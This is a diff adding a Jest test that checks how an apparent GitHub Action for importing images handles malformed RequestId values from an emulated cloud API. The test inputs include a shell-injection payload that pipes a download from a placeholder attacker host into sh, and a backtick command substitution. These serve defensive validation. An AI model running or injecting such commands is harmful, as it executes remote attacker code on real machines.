@@ -204,3 +204,33 @@ describe('ImageAlreadyExists that the lookup by name and version does not explai
     )
   })
 })
+
+describe('a RequestId that is not of the shape of one', () => {
+  it.each([['$(curl evil.example | sh)'], ['`id`'], ['abc def']])(
+    'AddImage answered RequestId %j: the image id is output, request-id is not, and a warning says why',
+    async requestId => {
+      const emu = await start({})
+      emu.fault('AddImage', {
+        kind: 'raw',
+        status: 200,
+        contentType: 'application/json',
+        body: JSON.stringify({
+          RequestId: requestId,
+          ImageId: 'm-forgedrequestid01',
+          Success: true
+        }),
+        requestIdHeader: false
+      })
+      const r = await runAction(inputs(emu))
+      expect(r.errors).toEqual([])
+      expect(r.code).toBe(0)
+      expect(r.outputs['image-id']).toBe('m-forgedrequestid01')
+      expect(r.outputs).not.toHaveProperty('request-id')
+      expect(r.outputFile).not.toContain(requestId)
+      const warnings = r.annotations.filter(a => a.kind === 'warning').map(a => a.message)
+      expect(warnings.join('\n')).toMatch(
+        /is not of the shape of one .*request-id output is left unset/
+      )
+    }
+  )
+})
